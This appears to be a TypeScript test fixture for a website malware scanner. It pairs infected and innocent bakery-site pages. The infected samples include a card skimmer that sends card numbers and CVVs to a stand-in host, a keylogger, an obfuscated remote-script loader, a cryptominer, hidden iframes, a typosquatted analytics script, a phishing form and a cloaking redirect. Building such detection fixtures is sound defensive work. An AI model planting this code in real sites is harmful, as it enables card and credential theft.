/**
 * Pages as intruders leave them, made by us and inert – every host ends in .example or belongs to nobody –, each beside an
 * innocent page that looks much the same to a search for words.
 */
export interface ThreatPage {
  path: string
  /** The check that must find it. */
  check: string
  infected: string
  innocent: string
}

const base64 = (text: string) => Buffer.from(text).toString('base64')
const page = (title: string, body: string, after = '') =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><h1>${title}</h1>${body}</body></html>${after}`
const CHECKOUT = `<form method="post" action="/order"><input type="hidden" name="csrf_token" value="Vn8RyQ3tZ1Kx0LwPb72s">
  <input id="cc-number" name="cc-number" autocomplete="cc-number"><input id="cc-cvv" name="cc-cvv"><button>Pay</button></form>`

export const THREAT_PAGES: readonly ThreatPage[] = [
  {
    path: '/checkout',
    check: 'threat/skimmer',
    infected: page(
      'Checkout',
      `${CHECKOUT}<script>(function(){var g=atob('${base64('https://cdn-metrics.example/g')}');document.querySelector('button').addEventListener('mousedown',function(){
        var o={};['cc-number','cc-cvv'].forEach(function(k){o[k]=document.getElementById(k).value});new Image().src=g+'?d='+btoa(JSON.stringify(o))})})()</script>`,
    ),
    innocent: page(
      'Checkout',
      `${CHECKOUT}<script>(function(){document.getElementById('cc-number').addEventListener('input',function(){
        var ok=/^4/.test(this.value);document.querySelector('button').className=ok?'visa':''});
        document.querySelector('button').addEventListener('mousedown',function(){new Image().src='https://stats.example/e?n=pay&l='+document.getElementById('cc-number').value.length})})()</script>`,
    ),
  },
  {
    path: '/keys',
    check: 'threat/skimmer',
    infected: page(
      'Notes',
      `<script>var b='';document.addEventListener('keypress',function(e){b+=e.key;if(b.length>30){fetch('https://log.example/k?'+encodeURIComponent(b));b=''}})</script>`,
    ),
    innocent: page(
      'Notes',
      `<script>document.addEventListener('keydown',function(e){if(e.ctrlKey&&e.key==='s'){e.preventDefault();fetch('/save',{method:'POST',body:document.querySelector('h1').textContent})}})</script>`,
    ),
  },
  {
    path: '/loader',
    check: 'threat/hidden-loader',
    infected: page(
      'News',
      `<script>eval(String.fromCharCode(${[...`var s=document.createElement("script");s.src="https://trackstat.example/a.js";document.head.appendChild(s)`].map((one) => one.charCodeAt(0)).join(',')}))</script>`,
    ),
    innocent: page(
      'News',
      `<script>eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0.1=2(3){4 3+5}',6,6,'window|addOne|function|n|return|1'.split('|'),0,{}))</script>
      <script>document.write(atob('${base64('<a href="/contact">contact</a>')}'))</script>`,
    ),
  },
  {
    path: '/miner',
    check: 'threat/cryptominer',
    infected: page(
      'Films',
      `<script>var m=new CoinHive.Anonymous('${'aB3d'.repeat(8)}',{throttle:0.4});m.start()</script>`,
    ),
    innocent: page(
      'Films',
      `<p>In 2018 many sites ran new CoinHive.Anonymous() and coinhive.min.js.</p><script>var w=new Worker('/w.js'),s=new WebSocket('wss://chat.example/');s.onmessage=function(e){w.postMessage({job_id:1,data:e.data})}</script>`,
    ),
  },
  {
    path: '/frame',
    check: 'threat/hidden-frame',
    infected: page(
      'Recipes',
      '<p>Soup</p>',
      '<iframe src="http://traff.example/in.cgi?7" width="1" height="1" style="visibility:hidden"></iframe>',
    ),
    innocent: page(
      'Recipes',
      '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-X" height="0" width="0" style="display:none"></iframe></noscript><iframe src="https://player.example/v/1" width="640" height="360" sandbox="allow-scripts"></iframe>',
    ),
  },
  {
    path: '/imitation',
    check: 'threat/injected-script',
    infected: page('Team', '<script src="https://www.google-anaiytics.com/analytics.js"></script>'),
    innocent: page('Team', '<script src="https://www.google-analytics.com/analytics.js"></script>'),
  },
  {
    path: '/links',
    check: 'threat/seo-spam',
    infected: page(
      'Garden',
      '<div style="position:absolute;left:-9999px"><a href="https://a.example/">buy viagra</a> <a href="https://b.example/">cheap cialis</a> <a href="https://c.example/">online casino</a></div>',
    ),
    innocent: page(
      'Garden',
      '<a href="#main" style="position:absolute;left:-9999px">Skip to content</a><ul style="display:none"><li><a href="/a">Roses</a><li><a href="https://partner.example/">Partner</a></ul><p>A specialist in roses.</p>',
    ),
  },
  {
    path: '/defaced',
    check: 'threat/defacement',
    infected:
      '<html><head><title>Hacked By Crew</title></head><body bgcolor="black"><center><h1>Hacked By Crew</h1>Greetz: all friends. Sorry admin, your security is low.</center></body></html>',
    innocent: page(
      'How a bakery was hacked by a bot',
      `<p>${'The owner tells what she saw that morning, whom she called and what she does today. '.repeat(40)}</p>`,
    ),
  },
  {
    path: '/signin',
    check: 'threat/phishing-kit',
    infected: `<!-- saved from url=(0036)https://login.microsoftonline.com/ --><html><head><title>Sign in to your account</title><link rel="icon" href="https://aadcdn.msftauth.net/i.ico"></head><body><form method="post" action="next.php"><input type="password" name="pr" autocomplete="current-password"></form></body></html>`,
    innocent: page(
      'Sign in to the bakery',
      '<form method="post" action="/session"><input type="hidden" name="csrf_token" value="Vn8RyQ3tZ1Kx0LwPb72s"><input type="password" name="p" autocomplete="current-password"></form><a href="/auth/microsoft">Sign in with Microsoft</a>',
    ),
  },
  {
    path: '/tools',
    check: 'threat/web-shell',
    infected:
      '<html><head><title>site - WSO 2.5</title></head><body><form method=post name=mf><input type=hidden name=a><input type=hidden name=c></form></body></html>',
    innocent: page(
      'What WSO and c99 are',
      '<p>Web shells such as FilesMan:</p><pre>&lt;title&gt;site - WSO 2.5&lt;/title&gt;</pre>',
    ),
  },
  {
    path: '/listed',
    check: 'threat/blocklist',
    infected: page('Fonts', '<script src="https://js.drakefollow.com/sync.js"></script>'),
    innocent: page('Fonts', '<p>The reports name drakefollow.com and baways.com.</p>'),
  },
]

/** The start page: links to all of them. Visitors from a search result are led away from the infected one. */
export function startPage(
  kind: 'infected' | 'innocent',
  request: { agent: string; referer: string },
): { location: string } | string {
  if (kind === 'infected' && /google\./.test(request.referer)) return { location: 'https://prize.example/land' }
  const links = THREAT_PAGES.map(({ path }) => `<li><a href="${path}">${path.slice(1)}</a>`).join('')
  const phone = kind === 'innocent' && /Mobile/.test(request.agent) ? '<nav>menu for phones</nav>' : ''
  return page('The bakery', `${phone}<ul>${links}</ul>`)
}
